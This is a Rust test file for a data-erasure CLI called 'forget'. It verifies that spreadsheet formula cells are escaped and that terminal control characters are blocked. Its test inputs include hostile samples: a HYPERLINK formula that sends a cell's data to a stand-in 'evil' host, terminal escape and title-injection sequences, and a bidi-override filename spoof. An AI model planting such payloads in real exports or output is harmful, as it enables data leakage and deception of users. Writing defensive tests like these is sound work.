//! What comes from input files and APIs cannot act where forget's output lands: CSV cells a
//! spreadsheet would run are escaped (and read back exactly by `forget run`), and control
//! characters never reach a terminal raw.

use std::collections::BTreeMap;
use std::path::Path;

use crate::common::{Workdir, text};

/// The characters a spreadsheet runs a cell for (OWASP ASVS 1.2.10).
const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

fn write_csv(wd: &Workdir, name: &str, rows: &[Vec<&str>]) {
    let mut w = csv::Writer::from_path(wd.path(name)).unwrap();
    for row in rows {
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
}

/// Every cell of a CSV file as written (no un-escaping): header and rows.
fn cells(path: &Path) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::ReaderBuilder::new().from_path(path).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            header
                .iter()
                .cloned()
                .zip(rec.iter().map(String::from))
                .collect()
        })
        .collect()
}

/// (key, exparams, kept columns) of every unit of a ledger, by key.
fn recorded(wd: &Workdir, ledger: &str) -> BTreeMap<String, (String, String)> {
    let out = wd.run(
        wd.command()
            .args(["report", "--state", ledger, "--format", "jsonl"]),
        0,
    );
    let keys: Vec<String> = {
        let conn = rusqlite::Connection::open(wd.path(ledger)).unwrap();
        let mut stmt = conn.prepare("SELECT key FROM units ORDER BY id").unwrap();
        stmt.query_map([], |r| r.get(0))
            .unwrap()
            .map(|k| k.unwrap())
            .collect()
    };
    let rows: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), keys.len());
    keys.into_iter()
        .zip(rows)
        .map(|(k, row)| (k, (row["exparams"].to_string(), row["extra"].to_string())))
        .collect()
}

#[test]
fn formulas_are_escaped_and_needs_attention_comes_back_to_run_exactly() {
    let wd = Workdir::new();
    let hyperlink = "=HYPERLINK(\"http://evil/?\"&A1)";
    write_csv(
        &wd,
        "requests.csv",
        &[
            vec![
                "key", "exparam1", "exparam2", "exparam3", "exparam4", "exparam5", "ticket",
            ],
            vec![
                "+447700900123",
                "=1+2",
                "'quoted",
                "-x",
                "@a",
                "==2",
                hyperlink,
            ],
            vec!["'genuine-key", "+44 first", "", "", "", "", "T-2"],
        ],
    );
    let run = |file: &str, ledger: &str| {
        wd.run(
            wd.command()
                .args(["run", file, "--dry-run", "--keep-column", "ticket"])
                .args(["--state", ledger]),
            0,
        )
    };
    run("requests.csv", "a.db");
    let first = recorded(&wd, "a.db");
    let want_keys = ["+447700900123", "'genuine-key"];
    assert_eq!(first.keys().collect::<Vec<_>>().len(), 2);
    for key in want_keys {
        assert!(first.contains_key(key), "{key} was changed: {first:?}");
    }
    let (exparams, extra) = &first["+447700900123"];
    let want: serde_json::Value = serde_json::json!({
        "exparam1": "=1+2", "exparam2": "'quoted", "exparam3": "-x", "exparam4": "@a",
        "exparam5": "==2",
    });
    assert_eq!(exparams, &want.to_string(), "read as written");
    assert_eq!(
        extra,
        &serde_json::json!({ "ticket": hyperlink }).to_string()
    );

    wd.run(
        wd.command()
            .args(["report", "--state", "a.db", "--output", "report.csv"])
            .args(["--split", "out"]),
        0,
    );
    // Every CSV written for people or programs: no cell a spreadsheet would run.
    for file in ["report.csv", "out/succeeded.csv", "out/needs-attention.csv"] {
        for row in cells(&wd.path(file)) {
            for (column, cell) in row {
                assert!(
                    !cell.starts_with(FORMULA_START),
                    "{file} {column}: {cell:?} would run in a spreadsheet"
                );
            }
        }
    }
    let attention = cells(&wd.path("out/needs-attention.csv"));
    let msisdn = attention
        .iter()
        .find(|r| r["key"] == "'+447700900123")
        .unwrap();
    assert_eq!(msisdn["exparam1"], "'=1+2");
    assert_eq!(msisdn["exparam2"], "'quoted", "nothing to escape");
    assert_eq!(msisdn["exparam5"], "'==2");
    assert_eq!(msisdn["ticket"], format!("'{hyperlink}"));
    assert!(attention.iter().any(|r| r["key"] == "'genuine-key"));

    // Fed back to `forget run`: every value comes back exactly.
    run("out/needs-attention.csv", "b.db");
    assert_eq!(recorded(&wd, "b.db"), first);
}

/// No ESC, BEL or bidi override in what forget printed.
fn assert_inert(bytes: &[u8], what: &str) {
    let shown = text(bytes);
    assert!(
        !bytes.contains(&0x1b) && !bytes.contains(&0x07) && !shown.contains('\u{202e}'),
        "{what} let control characters through: {shown:?}"
    );
}

#[test]
fn control_characters_from_input_never_reach_the_terminal() {
    let wd = Workdir::new();
    let title = "\x1b]0;pwned\x07";
    let clear = "\x1b[2J";
    write_csv(
        &wd,
        "r.csv",
        &[
            vec!["key", "exparam1", "ticket"],
            vec!["k-1", title, clear],
            vec!["k-2", "x\u{202e}txt.exe", "T\nforged line"],
            vec!["bad\x1bkey", "", clear],
        ],
    );
    let ledger = ["--state", "l.db"];
    let out = wd
        .command()
        .args(["run", "r.csv", "--dry-run", "--keep-column", "ticket"])
        .args(ledger)
        .output()
        .unwrap();
    assert_inert(&out.stdout, "run");
    assert_inert(&out.stderr, "run");

    wd.write("keys.txt", "k-1\nk-2\nbad\x1bkey\n");
    let out = wd
        .command()
        .args(["lookup", "-"])
        .args(ledger)
        .stdin(std::fs::File::open(wd.path("keys.txt")).unwrap())
        .output()
        .unwrap();
    // Control characters in an audit field or a kept column are refused at intake (the
    // row is invalid and never sent); the reason names the field, never the value.
    let shown = text(&out.stdout);
    assert!(
        shown.contains("exparam1 contains control characters")
            && shown.contains("column ticket contains control characters")
            && shown.contains("key contains control characters"),
        "{shown}"
    );
    assert!(
        !shown.contains("pwned") && !shown.contains("forged line"),
        "{shown}"
    );
    assert_inert(&out.stdout, "lookup");
    assert_inert(&out.stderr, "lookup");

    for args in [&["status"][..], &["invalid"], &["status", "--deadlines"]] {
        let out = wd.command().args(args).args(ledger).output().unwrap();
        assert_inert(&out.stdout, args[0]);
        assert_inert(&out.stderr, args[0]);
    }
    // The report's summary on stderr names the files written, escaped.
    let out = wd
        .command()
        .args(["report", "--split", "out\x1b[2J"])
        .args(ledger)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(text(&out.stderr).contains("out\\u{1b}[2J/succeeded.csv"));
    assert_inert(&out.stderr, "report");

    // A header with control characters: the error listing the columns found shows them.
    wd.write("bad-header.csv", "na\x1b[2Jme,\u{202e}other\n1,2\n");
    let out = wd.run(
        wd.command()
            .args(["run", "bad-header.csv", "--dry-run", "--state", "h.db"]),
        2,
    );
    let stderr = text(&out.stderr);
    assert!(stderr.contains("the columns found are"), "{stderr}");
    assert_inert(&out.stderr, "the header error");
}

/// A key of digits only and one starting with `+`, both rejected (a profile the tenant
/// lacks), with a long numeric audit field and a kept column with a leading zero, and a key
/// not held (code 1020): the report and `needs-attention.csv` write every such cell as text
/// a spreadsheet keeps (`'` in front; counts, lines and HTTP statuses stay numbers), and the
/// file fed back to `forget run`, fixed as a person would, is read as the keys the ledger
/// holds: the same units, their requests settled by the fixed rows.
#[test]
fn digit_keys_and_ids_are_text_for_spreadsheets_and_come_back_as_the_same_request() {
    const STATE: &str = "forget-simulate.db";
    let wd = Workdir::new();
    wd.write(
        "requests.csv",
        "key,profile-name,exparam1,ticket\n\
         15550100075,custmers,20261130000000001234,0042\n\
         +15550100059,custmers,REQ-1,T-7\n\
         15550199999,customers,REQ-2,T-8\n",
    );
    let run = |file: &str, code: i32| {
        wd.run(
            wd.command()
                .args(["run", file, "--simulate", "--keep-column", "ticket"])
                .args(["--rate", "unlimited", "-q"]),
            code,
        )
    };
    run("requests.csv", 4);
    wd.run(
        wd.command()
            .args(["report", "--state", STATE, "--output", "report.csv"])
            .args(["--split", "out"]),
        0,
    );

    let report = cells(&wd.path("report.csv"));
    assert_eq!(report.len(), 3);
    let cell = |row: usize, column: &str, want: &str| {
        assert_eq!(
            report[row][column], want,
            "report {column}: {:?}",
            report[row]
        );
    };
    cell(0, "line", "2");
    cell(0, "attempts", "0");
    cell(0, "exparam1", "'20261130000000001234");
    cell(0, "ticket", "'0042");
    cell(0, "key_masked", "15*******75");
    cell(0, "outcome", "rejected");
    cell(1, "key_masked", "'+15*******59");
    cell(1, "exparam1", "REQ-1");
    cell(2, "outcome", "not_found");
    cell(2, "attempts", "1");
    cell(2, "http_status", "200");
    cell(2, "code", "'1020");

    let mut attention = cells(&wd.path("out/needs-attention.csv"));
    assert_eq!(attention.len(), 2);
    for (row, key) in attention.iter().zip(["'15550100075", "'+15550100059"]) {
        assert_eq!(row["key"], key, "{row:?}");
    }
    assert_eq!(attention[0]["exparam1"], "'20261130000000001234");
    assert_eq!(attention[0]["ticket"], "'0042");
    assert_eq!(attention[0]["line"], "2");
    assert_eq!(attention[0]["ref"], "requests.csv:2");

    // The person fixes the profile and saves: every other cell as the spreadsheet read it,
    // `'` and all (LibreOffice writes it back so).
    for row in &mut attention {
        row.insert("profile-name".into(), "customers".into());
    }
    {
        let mut w = csv::Writer::from_path(wd.path("fixed.csv")).unwrap();
        let header: Vec<&String> = attention[0].keys().collect();
        w.write_record(&header).unwrap();
        for row in &attention {
            w.write_record(row.values()).unwrap();
        }
        w.flush().unwrap();
    }
    let out = run("fixed.csv", 0);
    assert!(
        text(&out.stdout).contains("2 earlier requests corrected by rows of this run"),
        "{}",
        text(&out.stdout)
    );
    let status = wd.run(
        wd.command()
            .args(["status", "--format", "json", "--state", STATE]),
        0,
    );
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    let r = &status["requests"];
    assert_eq!(
        (
            r["people"].as_u64(),
            r["units"].as_u64(),
            r["corrected"].as_u64(),
            r["open"].as_u64()
        ),
        (Some(3), Some(5), Some(2), Some(0)),
        "the fixed rows are the same two keys (new units: another profile): {status}"
    );
    // The same keys, and the audit field and kept column the first file said.
    let out = wd.run(
        wd.command()
            .args(["report", "--state", STATE, "--format", "jsonl"]),
        0,
    );
    let rows: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 5);
    assert_eq!(rows[3]["file"], "fixed.csv");
    for (fixed, first, state) in [(3, 0, "not_held"), (4, 1, "erased")] {
        assert_eq!(rows[fixed]["key_hash"], rows[first]["key_hash"], "{rows:?}");
        assert_eq!(rows[fixed]["state"], state, "{rows:?}");
        let by = format!("corrected by fixed.csv:{}", rows[fixed]["line"]);
        assert_eq!(rows[first]["state_detail"], by.as_str(), "{rows:?}");
    }
    assert_eq!(rows[3]["exparams"]["exparam1"], "20261130000000001234");
    assert_eq!(rows[3]["extra"]["ticket"], "0042");
}
